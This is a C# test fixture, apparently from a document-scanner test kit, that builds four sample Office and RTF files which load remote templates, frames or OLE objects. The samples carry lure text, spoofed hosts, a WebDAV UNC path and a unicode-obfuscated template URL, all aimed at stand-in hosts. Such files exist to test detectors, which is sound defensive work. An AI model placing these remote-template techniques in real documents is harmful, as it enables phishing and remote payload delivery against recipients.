using static ScanHost.TestKit.HeldOut.Eighth.EighthOffice;

namespace ScanHost.TestKit.HeldOut.Eighth;

/// <summary>Documents without macros that load a template, a frame or an object from elsewhere.</summary>
public sealed class TemplateInjection : EighthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Defence_job_description.docx", Word(P("Senior Design Engineer - Job Description") + P("Salary Range: confidential. Please enable editing to see the whole document."),
            settings: "<w:attachedTemplate r:id=\"rId10\"/>", settingsLinks: [new Link("attachedTemplate", "http://careers-aerosystems.example/templates/job/normal.dotm", true)]));
        yield return ("05-2026-0438.docx", Word("<w:p><w:r><w:object><v:shape id=\"_x0000_i1025\" style=\"width:1pt;height:1pt\"/><o:OLEObject Type=\"Link\" ProgID=\"htmlfile\" ShapeID=\"_x0000_i1025\" DrawAspect=\"Content\" r:id=\"rId10\" UpdateMode=\"OnCall\"><o:LinkType>EnhancedMetaFile</o:LinkType><o:LockedField>false</o:LockedField></o:OLEObject></w:object></w:r></w:p>",
            [new Link("oleObject", "https://www.xmlschema-files.example/office/word/2026/wordprocessingDrawing/RDF842l.html!", true)]));
        yield return ("Meeting_minutes_draft.docx", Word(P("Minutes of the steering committee") + P("Loading content from server ..."), settings: "<w:attachedTemplate r:id=\"rId10\"/>",
            settingsLinks: [new Link("attachedTemplate", "\\\\192.0.2.61@SSL\\DavWWWRoot\\share\\m.dotm", true)],
            parts: [("word/webSettings.xml", EighthForms.Utf8("<w:webSettings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><w:frameset><w:frame><w:sourceFileName r:id=\"rId1\"/></w:frame></w:frameset></w:webSettings>")),
                ("word/_rels/webSettings.xml.rels", EighthForms.Utf8("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/frame\" Target=\"http://192.0.2.61/f/frame.rtf\" TargetMode=\"External\"/></Relationships>"))]));
        yield return ("offer.rtf", EighthForms.Utf8("{\\rtf1\\ansi\\ansicpg1251\\deff0{\\fonttbl{\\f0\\fnil\\fcharset0 Calibri;}}{\\*\\generator Riched20 10.0.19041}{\\*\\template \\u104?\\u116?\\u116?\\u112?\\u58?\\u47?\\u47?doc-storage\\u46?example\\u47?up\\u47?offer\\u46?wbk}\\viewkind4\\uc1 \\pard\\sa200\\sl276\\slmult1\\f0\\fs22 Commercial offer. The document is loading.\\par}"));
    }
}
